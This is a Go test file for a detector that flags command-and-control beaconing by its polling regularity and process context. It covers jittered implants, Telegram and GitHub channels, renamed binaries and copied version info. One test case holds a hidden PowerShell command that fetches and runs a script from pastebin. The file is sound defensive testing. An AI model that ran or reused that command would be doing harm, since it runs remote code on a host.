package detect

import (
	"fmt"
	"math/rand"
	"testing"

	"github.com/stretchr/testify/require"
)

// every returns request times from start, one per period with jitter j:
// Cobalt Strike's kind (each sleep in [(1−j)·P, P]) or symmetric
// ([(1−j)·P, (1+j)·P]), until end.
func every(rng *rand.Rand, start, end, period, j float64, symmetric bool) []float64 {
	var ts []float64
	for t := start; t < end; {
		ts = append(ts, t)
		if symmetric {
			t += period * (1 + j*(2*rng.Float64()-1))
		} else {
			t += period * (1 - j*rng.Float64())
		}
	}
	return ts
}

// TestPollFindsImplants: implants polling every minute to every six hours
// with 0–50 % jitter of either kind, over the default memory of a day,
// for 30 start offsets and seeds each. A period of six hours gives four
// or five requests a day, too few for heavy jitter to stand out from
// chance; a longer memory ([polling] memory) finds them.
func TestPollFindsImplants(t *testing.T) {
	const day = 86400.0
	tests := []struct {
		name      string
		reason    string
		periods   []float64
		memory    float64
		atLeast   float64 // share of the series found polling
		jitters   []float64
		symmetric []bool
	}{
		{"minutes to two hours, a day", "11+ intervals within the day, jitter up to 50 %", []float64{60, 300, 1800, 3600, 7200}, day, 0.95, []float64{0, 0.1, 0.25, 0.5}, []bool{false, true}},
		{"six hours, little jitter, a day", "four requests that agree within 10 %", []float64{21600}, day, 0.9, []float64{0, 0.1}, []bool{false, true}},
		{"six hours, heavy jitter, three days", "25–50 % jitter needs more intervals: a three-day memory", []float64{21600}, 3 * day, 0.85, []float64{0.25, 0.5}, []bool{false, true}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			for _, p := range tt.periods {
				for _, j := range tt.jitters {
					for _, sym := range tt.symmetric {
						found := 0
						const n = 30
						for seed := int64(0); seed < n; seed++ {
							rng := rand.New(rand.NewSource(seed))
							ts := every(rng, rng.Float64()*p, tt.memory, p, j, sym)
							if Poll(ts, 4, 0.65).Regular {
								found++
							}
						}
						require.GreaterOrEqual(t, float64(found)/n, tt.atLeast, "period %v s, jitter %v (symmetric %v): found %d of %d", p, j, sym, found, n)
					}
				}
			}
		})
	}
}

// TestPollChance: requests at random times (a Poisson process) count as
// polling rarely, whatever their number: ChanceScore keeps it under 1.5 %.
func TestPollChance(t *testing.T) {
	for _, n := range []int{4, 5, 6, 8, 12, 30, 100} {
		hits := 0
		const tries = 2000
		for seed := int64(0); seed < tries; seed++ {
			rng := rand.New(rand.NewSource(seed))
			ts := make([]float64, n)
			for i := range ts {
				ts[i] = rng.Float64() * 86400
			}
			if Poll(ts, 4, 0.65).Regular {
				hits++
			}
		}
		require.LessOrEqual(t, float64(hits)/tries, 0.015, "%d random requests: %d of %d polling", n, hits, tries)
	}
}

func TestPoll(t *testing.T) {
	tests := []struct {
		name, reason string
		times        []float64
		want         Polling
	}{
		{"fixed period", "every 60 s: score 1", []float64{0, 60, 120, 180, 240}, Polling{Count: 5, Interval: 60, Score: 1, Judged: true, Required: 0.875, Regular: true}},
		{"too few", "three requests are not judged", []float64{0, 60, 120}, Polling{Count: 3, Interval: 60}},
		{"bursts are one request", "a redirect or an IPv6 retry within 2 s", []float64{0, 0.5, 60, 61, 120, 180, 181.9, 240}, Polling{Count: 5, Interval: 60, Score: 1, Judged: true, Required: 0.875, Regular: true}},
		{"a pause is not jitter", "a laptop asleep for hours between beats", []float64{0, 300, 600, 900, 1200, 1500, 1800, 30000, 30300, 30600, 30900, 31200}, Polling{Count: 12, Interval: 300, Gaps: 1, Score: 1, Judged: true, Required: 0.7, Regular: true}},
		{"random", "a person's visits", []float64{0, 40, 900, 1000, 5000, 5100}, Polling{Count: 6, Interval: 100, Jitter: 60, Score: 0, Judged: true, Required: 0.825, Regular: false}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			require.Equal(t, tt.want, Poll(tt.times, 4, 0.65))
		})
	}
}

// TestJudge: the process-level judgement, on the test catalog.
func TestJudge(t *testing.T) {
	d := testDetector(t)
	w := d.Weights()
	rng := rand.New(rand.NewSource(1))
	day := 86400.0
	poll5m := every(rng, 1000, day, 300, 0.2, true)
	now := 100 * day // the fleet's clock: the baseline is older than the requests judged here
	established := &FleetView{Hosts: 38, FleetHosts: 40, FirstSeen: now - 60*day, Now: now}
	fresh := &FleetView{Hosts: 1, FleetHosts: 40, FirstSeen: now - 3600, Now: now}
	tests := []judgeCase{
		{
			name: "compiled implant in AppData polling Telegram", reason: "behaviour, not a name: no catalogued process, yet it alerts",
			a: Activity{Process: Event{Host: b("WKS-1"), Image: b(`C:\Users\ann\AppData\Roaming\svc\svchelper.exe`)}, Category: "telegram",
				Hosts: [][]byte{b("api.telegram.org")}, Requests: poll5m, Fleet: fresh},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.Polled)
				require.True(t, r.NewPair)
				require.True(t, r.RarePair)
				require.Equal(t, w.Service+w.TagCC+w.Polling+w.NewPair+w.RarePair, r.RiskScore)
				require.True(t, r.Pass)
			},
		},
		{
			name: "the same without a baseline", reason: "polling alone is enough for a C&C-tagged service",
			a: Activity{Process: Event{Image: b(`C:\Users\ann\AppData\Roaming\svc\svchelper.exe`)}, Category: "telegram",
				Hosts: [][]byte{b("api.telegram.org")}, Requests: poll5m},
			check: func(t *testing.T, r *Result) { require.True(t, r.Pass); require.Nil(t, r.Fleet) },
		},
		{
			name: "unknown program, random requests", reason: "a handful of requests at random is ordinary use",
			a: Activity{Process: Event{Image: b(`C:\Tools\x.exe`)}, Category: "github", Hosts: [][]byte{b("api.github.com")},
				Requests: []float64{100, 5000, 5300, 20000, 50000}},
			check: func(t *testing.T, r *Result) { require.False(t, r.Polled); require.False(t, r.Pass) },
		},
		{
			name: "Chrome with a Google document open", reason: "the service's own client, common and established in the fleet (no allowlist rule names it)",
			a: Activity{Process: Event{Image: b(`C:\Program Files\Google\Chrome\Application\chrome.exe`), Company: b("Google LLC"),
				OriginalFileName: b("chrome.exe")}, Category: "google_services", Hosts: [][]byte{b("docs.google.com")}, Requests: poll5m, Fleet: established},
			check: func(t *testing.T, r *Result) {
				require.NotEmpty(t, r.OwnClient)
				require.True(t, r.CommonPair, "%q", strs(r.Reasons))
				require.True(t, r.OldPair)
				require.False(t, r.Pass)
				require.Equal(t, max(0, w.Service+w.TagCC+w.Polling-w.Context[KindOwnClient]-w.Context[KindCommonPair]-w.Context[KindEstablishedPair]), r.RiskScore)
			},
		},
		{
			name: "OneDrive.exe with copied version info in Roaming", reason: "copied version info at a wrong path is no client: a signal of its own",
			a: Activity{Process: Event{Image: b(`C:\Users\ann\AppData\Roaming\OneDrive.exe`), Company: b("Microsoft Corporation"),
				OriginalFileName: b("OneDrive.exe")}, Category: "microsoft_personal", Hosts: [][]byte{b("onedrive.live.com")}, Requests: poll5m, Fleet: established},
			check: func(t *testing.T, r *Result) {
				require.Empty(t, r.OwnClient)
				require.NotEmpty(t, r.UnexpectedPath)
				require.False(t, r.CommonPair)
				require.True(t, r.Pass)
				require.GreaterOrEqual(t, r.RiskScore, w.Service+w.Polling+w.UnexpectedPath)
			},
		},
		{
			name: "a copied Notion.exe polling Telegram", reason: "a client's name and version info are checked for its place whatever service it reaches (review finding)",
			a: Activity{Process: Event{Image: b(`C:\Users\ann\AppData\Roaming\Notion\Notion.exe`), Company: b("Notion Labs, Inc."),
				OriginalFileName: b("Notion.exe")}, Category: "telegram", Hosts: [][]byte{b("api.telegram.org")}, Requests: poll5m, Fleet: established},
			check: func(t *testing.T, r *Result) {
				require.NotEmpty(t, r.UnexpectedPath)
				require.False(t, r.CommonPair)
				require.True(t, r.Pass)
			},
		},
		{
			name: "a common, established PowerShell gets no fleet credit", reason: "an interpreter is the same program whatever script it runs (review finding)",
			a: Activity{Process: Event{Image: b(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), OriginalFileName: b("PowerShell.EXE"),
				CommandLine: b(`powershell -f C:\ProgramData\x\sync.ps1`)}, Category: "github", Hosts: [][]byte{b("raw.githubusercontent.com")},
				Requests: poll5m, Fleet: established},
			check: func(t *testing.T, r *Result) {
				require.False(t, r.CommonPair)
				require.False(t, r.OldPair)
				require.True(t, r.Pass)
			},
		},
		{
			name: "common and established never hide fetch-and-execute", reason: "context lowers risk; it never hides running what was fetched",
			a: Activity{Process: Event{Image: b(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`),
				CommandLine: b(`powershell -w hidden -c "iex(iwr https://pastebin.com/raw/abc)"`)}, Category: "pastebin",
				Hosts: [][]byte{b("pastebin.com")}, Requests: poll5m, Fleet: established},
			check: func(t *testing.T, r *Result) {
				require.False(t, r.CommonPair)
				require.False(t, r.OldPair)
				require.Equal(t, 100, r.RiskScore)
			},
		},
		{
			name: "a renamed binary gets no fleet context", reason: "the fleet never benefits a renamed binary",
			a: Activity{Process: Event{Image: b(`C:\Users\Public\updater.exe`), OriginalFileName: b("regsvr32.exe")}, Category: "github",
				Hosts: [][]byte{b("github.com")}, Requests: []float64{10}, Fleet: established},
			check: func(t *testing.T, r *Result) { require.False(t, r.OldPair); require.NotEmpty(t, r.PEName) },
		},
		{
			name: "a new pair on many hosts at once", reason: "a campaign reaching every host stays suspicious: common but new lowers nothing",
			a: Activity{Process: Event{Image: b(`C:\ProgramData\Vendor\agent.exe`)}, Category: "github", Hosts: [][]byte{b("api.github.com")},
				Requests: poll5m, Fleet: &FleetView{Hosts: 35, FleetHosts: 40, FirstSeen: now - 7200, Now: now}},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.NewPair)
				require.False(t, r.CommonPair, "a new pair is not lowered for being common")
				require.True(t, r.Pass)
			},
		},
		{
			name: "relaunched task", reason: "one identity, a new process every hour, one request each",
			a: Activity{Process: Event{Image: b(`C:\ProgramData\upd\upd.exe`), ParentImage: b(`C:\Windows\System32\svchost.exe`)}, Category: "github",
				Hosts: [][]byte{b("raw.githubusercontent.com")}, Requests: every(rng, 0, day, 3600, 0, false), Instances: 24},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.Polled)
				require.Equal(t, 24, r.Instances)
				require.True(t, r.Pass)
			},
		},
		{
			name: "GitHub Actions runner as a service", reason: "a CI runner long-polls GitHub all day: context with provenance",
			a: Activity{Process: Event{Image: b(`C:\actions-runner\bin\Runner.Listener.exe`), ParentImage: b(`C:\actions-runner\bin\RunnerService.exe`),
				User: b(`NT AUTHORITY\NETWORK SERVICE`)}, Category: "github", Hosts: [][]byte{b("broker.actions.githubusercontent.com")}, Requests: every(rng, 0, day, 60, 0.1, true)},
			check: func(t *testing.T, r *Result) { require.Equal(t, "ci_runner", r.ContextKind); require.False(t, r.Pass) },
		},
		{
			name: "the same runner started by hand from Downloads", reason: "Shai-Hulud's runner is no service: no context",
			a: Activity{Process: Event{Image: b(`C:\Users\bob\Downloads\actions-runner\bin\Runner.Listener.exe`), ParentImage: b(`C:\Windows\System32\cmd.exe`),
				User: b(`CORP\bob`)}, Category: "github", Hosts: [][]byte{b("broker.actions.githubusercontent.com")}, Requests: every(rng, 0, day, 60, 0.1, true)},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.ContextKind); require.True(t, r.Pass) },
		},
	}
	runJudge(t, d, tests)
}

// judgeCase is one activity to judge, what its result must show, and why.
type judgeCase struct {
	name, reason string
	a            Activity
	check        func(t *testing.T, r *Result)
}

// runJudge judges each case with d and checks, besides the case's own
// checks, that every point of the risk has a reason and that the risk
// alone decides.
func runJudge(t *testing.T, d *Detector, tests []judgeCase) {
	t.Helper()
	bh := d.Behaviour()
	s := d.NewScorer()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			r := s.Judge(&tt.a)
			tt.check(t, r)
			requireExplained(t, r)
			require.Equal(t, r.RiskScore >= bh.AlertRisk && !r.Allowlisted && r.Category != "", r.Pass, "risk alone decides: %v", fmt.Sprint(strs(r.Reasons)))
		})
	}
}
